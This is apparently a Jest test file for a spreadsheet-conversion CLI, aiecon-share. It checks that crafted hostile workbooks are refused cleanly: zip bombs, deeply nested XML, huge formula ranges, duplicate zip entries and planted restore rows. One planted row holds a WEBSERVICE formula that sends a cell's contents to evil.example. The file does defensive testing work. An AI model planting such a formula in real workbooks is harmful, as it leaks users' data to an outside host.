// Small crafted files that once crashed or stalled aiecon-share (issue 20): each now converts or is
// refused within seconds, with a message that says why, leaving the input as it was and no output
// or temporary file behind. (Times and memory are measured in bench/share.mjs, not asserted here.)
import { spawn, execFileSync } from "child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "fs";
import JSZip from "jszip";
import { tmpdir } from "os";
import { join } from "path";
import { runCli } from "../support/realworld";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const crafted = require("../support/craftedFiles.cjs") as {
  nestedText: (depth?: number) => Promise<Buffer>;
  aieconReading: (range: string, count?: number) => Promise<Buffer>;
  farRow: (row: number) => Promise<Buffer>;
  longTextRun: (chars?: number) => Promise<Buffer>;
  denseCells: (mb?: number) => Promise<Buffer>;
  withOriginals: (rows: string[][]) => Promise<Buffer>;
  inflatesBeyondStated: (bytes?: number, name?: string) => Promise<Buffer>;
  damagedSheet: (how: "short" | "corrupt") => Promise<Buffer>;
  duplicateEntry: (name?: string) => Promise<Buffer>;
  danglingRelationship: (missing?: string) => Promise<Buffer>;
  base: () => Promise<Buffer>;
};
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { bigWorkbook } = require("../support/bigWorkbook.cjs") as { bigWorkbook: (o: { rows: number; aiecon?: number }) => Promise<Buffer> };

const dir = mkdtempSync(join(tmpdir(), "aiecon-crafted-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const leftovers = (folder = dir) => readdirSync(folder).filter((f) => f.endsWith(".tmp"));

/** Writes `bytes` as an input, runs the CLI, and checks the input is unchanged and nothing is left but the output. */
async function run(name: string, bytes: Buffer, ...flags: string[]) {
  const input = join(dir, `${name}.xlsx`);
  const output = join(dir, `${name}.out.xlsx`);
  writeFileSync(input, bytes);
  const r = await runCli(input, output, ...flags);
  expect(readFileSync(input).equals(bytes)).toBe(true);
  expect(leftovers()).toEqual([]);
  return { ...r, input, output };
}

async function refusedWith(name: string, bytes: Buffer, message: RegExp, ...flags: string[]) {
  const r = await run(name, bytes, ...flags);
  expect(r.err).toMatch(message);
  expect(r.err).not.toMatch(/Cannot read properties|heap|Invalid string length|Maximum call stack/);
  expect(r.code).toBe(1);
  expect(existsSync(r.output)).toBe(false);
  return r;
}

describe("crafted packages", () => {
  it("an AIECON call on a row beyond an Int32 is refused, not converted into the row its number wraps to", async () => {
    // 2^32 + 5 read into an Int32 is 5: the call's translation once replaced row 5's own formulas.
    const r = await refusedWith(
      "far-row",
      await crafted.farRow(2 ** 32 + 5),
      /a cell at row 4294967301, column 7, beyond any sheet's rows/,
    );
    expect(r.out).toBe("");
  });

  it("a workbook part with 100,000 nested elements holding text is refused by its depth", async () => {
    const bytes = await crafted.nestedText(100_000);
    expect(bytes.length).toBeLessThan(20_000);
    await refusedWith("nested", bytes, /one of its parts nests elements more than 256 deep/);
  });

  it("nesting within the limit converts, the text of every element still read", async () => {
    const r = await run("nested-ok", await crafted.nestedText(200));
    expect(r.err).toBe("");
    expect(r.code).toBe(0);
    const workbook = await (await JSZip.loadAsync(readFileSync(r.output))).file("xl/workbook.xml")!.async("string");
    expect(workbook.split("<a>").length - 1).toBe(200);
  });

  it("a 200 KB package holding 110 MB of identical cells is refused by how far it unpacks", async () => {
    const bytes = await crafted.denseCells(110);
    expect(bytes.length).toBeLessThan(1_000_000);
    await refusedWith("dense", bytes, /it unpacks to 110 MB, \d+ times its size; workbooks unpack to less than 25 times theirs/);
  });

  it("a sheet cell holding a 40 MB text run is refused by its length, as it streams", async () => {
    const bytes = await crafted.longTextRun(40_000_000);
    expect(bytes.length).toBeLessThan(200_000);
    await refusedWith(
      "longrun",
      bytes,
      /xl\/worksheets\/sheet1\.xml holds a run of more than 1,000,000 characters without markup \(an Excel cell holds at most 32,767\)/,
    );
  });

  it("a part stated as 1 KB that inflates to 50 MB is refused after its first kilobytes", async () => {
    const bytes = await crafted.inflatesBeyondStated(50_000_000);
    expect(bytes.length).toBeLessThan(200_000);
    await refusedWith(
      "bomb",
      bytes,
      /its part xl\/media\/image1\.png unpacks to more than the 1,024 bytes its zip directory states \(a damaged file or a zip bomb\)/,
    );
  });

  // The worksheets are counted as the scan streams them, not inflated once more beforehand
  // (packageCheck.ts): the same refusals, with the same words, and nothing written.
  it.each([
    ["the workbook's sheet", "xl/worksheets/sheet1.xml", []],
    ["the workbook's sheet given to --restore", "xl/worksheets/sheet1.xml", ["--restore"]],
    ["a sheet part no sheet names", "xl/worksheets/sheet9.xml", []],
  ])("%s stated as 1 KB that inflates to 50 MB is refused", async (_what, name, flags) => {
    const bytes = await crafted.inflatesBeyondStated(50_000_000, name);
    expect(bytes.length).toBeLessThan(200_000);
    await refusedWith(
      `bomb-${name.replace(/\W/g, "")}${flags.join("")}`,
      bytes,
      new RegExp(
        `its part ${name.replace(/[/.]/g, "\\$&")} unpacks to more than the 1,024 bytes its zip directory states \\(a damaged file or a zip bomb\\)`,
      ),
      ...flags,
    );
  });

  it.each(["short", "corrupt"] as const)("a sheet whose data is damaged (%s) is refused as damaged", async (how) => {
    await refusedWith(
      `damaged-${how}`,
      await crafted.damagedSheet(how),
      /its part xl\/worksheets\/sheet1\.xml is damaged \(it does not unpack to its stated size\); nothing was done/,
    );
  });

  it("a package naming one part twice is refused, not resolved to the last copy", async () => {
    await refusedWith(
      "twice",
      await crafted.duplicateEntry("xl/worksheets/sheet1.xml"),
      /its zip package holds xl\/worksheets\/sheet1\.xml twice/,
    );
  });

  it.each([
    [
      "xl/sharedStrings.xml",
      /xl\/_rels\/workbook\.xml\.rels points at xl\/sharedStrings\.xml \(relationship rId2\), which the package does not hold/,
    ],
    [
      "xl/worksheets/sheet1.xml",
      /xl\/_rels\/workbook\.xml\.rels points at xl\/worksheets\/sheet1\.xml \(relationship rId1\), which the package does not hold/,
    ],
  ])("a relationship pointing at a missing %s is refused by name", async (missing, message) => {
    await refusedWith(`dangling-${missing.replace(/\W/g, "")}`, await crafted.danglingRelationship(missing), message);
  });
});

describe("AIECON formulas reading huge ranges", () => {
  it("a model argument naming the whole sheet is refused by the size of what it reads, before reading it", async () => {
    const bytes = await crafted.aieconReading("A1:XFD1048576", 3);
    expect(bytes.length).toBeLessThan(10_000);
    await refusedWith(
      "whole-sheet",
      bytes,
      /reads 'Usage'!A1:XFD1048576, 17,179,869,184 cells, more than the 2,097,152 aiecon-share reads at once; nothing was done/,
    );
  });

  it("thousands of formulas each naming a whole column are refused by what they read in all", async () => {
    await refusedWith(
      "whole-columns",
      await crafted.aieconReading("$A$1:$A$1048576", 2000),
      /its AIECON formulas read more than 100,000,000 cells in all; nothing was done/,
    );
  });

  it("formulas naming a column larger than their data convert: the rows beyond the sheet's last are read from no cell", async () => {
    const r = await run("column", await crafted.aieconReading("$A$2:$A$1048576", 30));
    expect(r.err).toBe("");
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/30 formula\(s\) now native Excel/);
  });
});

describe("--restore trusts only what conversion writes in AIECON_Originals", () => {
  it.each([
    [
      "a written range of the whole sheet",
      ["Usage", "G2", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"],
      /written range 'A1:XFD1048576' is not the block its cell G2 spilled into/,
    ],
    [
      "a huge written range anchored at its cell",
      ["Usage", "A1", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"],
      /covers 17,179,869,184 cells, more than the 250,000/,
    ],
    [
      "a formula that is not AIECON's",
      ["Usage", "H2", '=WEBSERVICE("http://evil.example/?"&A2)', "", "", "2026-12-01"],
      /its formula '=WEBSERVICE\("http:\/\/evil\.example\/\?"&A2\)' calls no AIECON function/,
    ],
    [
      "a filled-down column of a million cells in a row of a few bytes",
      ["Usage", "G2:G1048576", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "", "2026-12-01"],
      /its cells 'G2:G1048576', filled down, would make more than 250,000 formulas/,
    ],
  ])("%s is refused by its row, before anything is cleared or written", async (_, row, message) => {
    const r = await refusedWith(`planted-${row[1]}`, await crafted.withOriginals([row]), message, "--restore");
    expect(r.err).toMatch(/Nothing was restored: AIECON_Originals entry 1 \(Usage!/);
  });

  it.each([
    ["a row", "F2", 1],
    ["a filled-down column's row", "F2:F40", 39],
  ])("%s as conversion writes it is restored, cell by cell", async (_, cell, restored) => {
    const r = await run(
      `kept-${restored}`,
      await crafted.withOriginals([["Usage", cell, '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "", "2026-12-01"]]),
      "--restore",
    );
    expect(r.err).toBe("");
    expect(r.out).toMatch(new RegExp(`: ${restored} AIECON formula\\(s\\) restored`));
  });
});

describe("the output's folder", () => {
  let input: string;
  beforeAll(async () => {
    input = join(dir, "model.xlsx");
    writeFileSync(input, await crafted.base());
  });

  it("is checked before any work: a missing folder is refused at once", async () => {
    const r = await runCli(input, join(dir, "no-such-folder", "out.xlsx"));
    expect(r.err).toMatch(/the folder .*no-such-folder does not exist; create it or choose another place for out\.xlsx/);
    expect(r.code).toBe(1);
  });

  it("a file standing where the folder should be is refused", async () => {
    writeFileSync(join(dir, "a-file"), "x");
    const r = await runCli(input, join(dir, "a-file", "out.xlsx"));
    expect(r.err).toMatch(/a-file is not a folder; choose another place for out\.xlsx/);
    expect(r.code).toBe(1);
  });

  it("a folder named as the output is refused", async () => {
    mkdirSync(join(dir, "out-folder.xlsx"));
    const r = await runCli(input, join(dir, "out-folder.xlsx"), "--force");
    expect(r.err).toMatch(/out-folder\.xlsx is a folder; name the file to write/);
    expect(r.code).toBe(1);
  });
});

describe("signals", () => {
  const root = join(__dirname, "..", "..");
  beforeAll(() => {
    // The bin runs the compiled CLI: compile the current source, as `npm run build:cli` does.
    execFileSync(process.execPath, [join(root, "node_modules", "typescript", "bin", "tsc"), "-p", "tsconfig.cli.json"], {
      cwd: root,
      stdio: "pipe",
    });
  });

  it.each(["SIGINT", "SIGTERM"] as const)(
    "%s during a conversion removes the temporary file and writes no output",
    async (signal) => {
      const folder = mkdtempSync(join(dir, "signal-"));
      const input = join(folder, "big.xlsx");
      writeFileSync(input, await bigWorkbook({ rows: 60_000, aiecon: 100 }));
      const before = readFileSync(input);
      const output = join(folder, "out.xlsx");
      const child = spawn(process.execPath, [join(root, "bin", "aiecon-share.mjs"), input, output], { cwd: root, stdio: "ignore" });
      // The temporary file is made before any work: once it is there, the conversion is under way.
      for (let i = 0; i < 600 && leftovers(folder).length === 0 && child.exitCode === null; i++)
        await new Promise((r) => setTimeout(r, 50));
      expect(leftovers(folder)).toHaveLength(1);
      child.kill(signal);
      const [code, by] = await new Promise<[number | null, string | null]>((resolve) => child.on("exit", (c, s) => resolve([c, s])));
      expect(by ?? code).toBe(signal);
      expect(leftovers(folder)).toEqual([]);
      expect(existsSync(output)).toBe(false);
      expect(readFileSync(input).equals(before)).toBe(true);
    },
    60_000,
  );
});
